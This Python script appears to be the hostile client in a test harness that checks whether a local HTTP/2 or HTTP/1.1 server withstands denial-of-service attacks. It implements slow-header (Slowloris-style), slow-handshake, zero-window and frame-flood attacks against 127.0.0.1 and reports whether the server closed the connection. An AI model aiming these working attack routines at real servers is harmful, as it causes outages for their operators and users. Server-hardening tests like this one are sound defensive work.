#!/usr/bin/env python3
"""The hostile client: `client.py KIND PORT SCHEME HOST SECONDS` does one attack and prints what came of it.

It connects once (the unread answers: ten times), and does not come back when it is closed.
"""

import json
import select
import socket
import ssl
import sys
import time

import frames
import kinds

READ = 1 << 18
UNREAD_CONNECTIONS = 10
SLOW_CONNECTIONS = 20


def connect(port: int, scheme: str, host: str, protocol: str = "h2") -> socket.socket:
    plain = socket.create_connection(("127.0.0.1", port), timeout=5)
    if scheme == "http":
        return plain
    tls = ssl.create_default_context()
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    tls.set_alpn_protocols([protocol])
    secured = tls.wrap_socket(plain, server_hostname=host)
    if secured.selected_alpn_protocol() != protocol:
        raise SystemExit(f"no {protocol} over TLS")
    return secured


def attack(connection: socket.socket, chunks, until: float) -> dict:
    """Sends as fast as it is taken, reads whatever comes."""
    connection.setblocking(False)
    reader, pending, begun = frames.Reader(), memoryview(frames.PREFACE + frames.settings()), time.monotonic()
    sent, ended, more = 0, None, True
    while ended is None and time.monotonic() < until:
        # Nothing hostile before the other side's settings are there: some attacks depend on them.
        if not pending and more and reader.settled:
            chunk = next(chunks, None)
            more = chunk is not None
            pending = memoryview(chunk or b"")
        if reader.acks_due and not pending:
            pending = memoryview(frames.frame(frames.SETTINGS, frames.ACK, 0) * reader.acks_due)
            reader.acks_due = 0
        ended = receive(connection, reader)
        if ended is None and pending:
            try:
                done = connection.send(pending)
                sent += done
                pending = pending[done:]
                continue
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                pass
            except OSError:
                # What it still said is read before it counts as closed.
                pending, more = memoryview(b""), False
        select.select([connection], [connection] if pending else [], [], 0.02)
    return {
        "sent_bytes": sent,
        "completed": len(reader.completed),
        "resets": reader.resets,
        "goaway": reader.goaway,
        "closed": ended is not None,
        "closed_after_s": round(time.monotonic() - begun, 3) if ended is not None else None,
    }


def receive(connection: socket.socket, reader: frames.Reader) -> str | None:
    """Why there is nothing more to come, if so."""
    try:
        received = connection.recv(READ)
    except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return None
    except OSError as error:
        return str(error)
    reader.take(received)
    return None if received else "end"


def unread(port: int, scheme: str, host: str, until: float) -> dict:
    """Asks for much, and lets none of it come."""
    opened = []
    goal = kinds.Goal(scheme, host, "/2m")
    for _ in range(UNREAD_CONNECTIONS):
        connection = connect(port, scheme, host)
        connection.sendall(frames.PREFACE + frames.settings(initial_window_size=0))
        connection.settimeout(0.2)
        try:
            connection.recv(READ)
            connection.sendall(frames.frame(frames.SETTINGS, frames.ACK, 0) + next(kinds.unread(goal)))
        except OSError:
            pass
        opened.append(connection)
    time.sleep(max(until - time.monotonic(), 0))
    readers = [frames.Reader() for _ in opened]
    closed = 0
    for connection, reader in zip(opened, readers, strict=True):
        connection.setblocking(False)
        ended = None
        while ended is None and select.select([connection], [], [], 0)[0]:
            ended = receive(connection, reader)
        closed += ended is not None
        connection.close()
    return {
        "sent_bytes": 0,
        "completed": sum(len(reader.completed) for reader in readers),
        "resets": sum(reader.resets for reader in readers),
        "goaway": next((reader.goaway for reader in readers if reader.goaway is not None), None),
        "closed": closed == len(opened),
        "closed_after_s": None,
    }


def slow(opened: list[socket.socket], begin: bytes, until: float) -> dict:
    """This, and then a byte each half second, on several connections; how long the last of them was borne."""
    begun = last = time.monotonic()
    for connection in opened:
        connection.sendall(begin)
        connection.setblocking(False)
    while opened and time.monotonic() < until:
        for connection in select.select(opened, [], [], 0.5)[0]:
            if is_over(connection):
                opened.remove(connection)
                connection.close()
                last = time.monotonic()
        for connection in opened:
            try:
                connection.send(b"s")
            except OSError:
                pass
    last -= begun
    return {
        "sent_bytes": 0,
        "completed": 0,
        "resets": 0,
        "goaway": None,
        "closed": not opened,
        "closed_after_s": round(last, 2) if not opened else None,
    }


def is_over(connection: socket.socket) -> bool:
    """Whether it was closed, or answered 408 and is about to be. What TLS says of itself is neither."""
    try:
        connection.recv(READ)
    except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return False
    except OSError:
        pass
    return True


def main() -> None:
    kind, port, scheme, host, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5])
    until = time.monotonic() + seconds
    if kind == kinds.SLOW_HEAD:
        opened = [connect(port, scheme, host, "http/1.1") for _ in range(SLOW_CONNECTIONS)]
        seen = slow(opened, f"GET /small HTTP/1.1\r\nHost: {host}\r\nX-Slow: ".encode(), until)
    elif kind == kinds.SLOW_HANDSHAKE:
        opened = [connect(port, "http", host) for _ in range(SLOW_CONNECTIONS)]
        seen = slow(opened, kinds.HANDSHAKE_BEGUN, until)
    elif kind == kinds.UNREAD:
        seen = unread(port, scheme, host, until)
    else:
        chunks = kinds.KINDS[kind](kinds.Goal(scheme, host, "/attacked"))
        with connect(port, scheme, host) as connection:
            seen = attack(connection, chunks, until)
    print(json.dumps(seen))


if __name__ == "__main__":
    main()
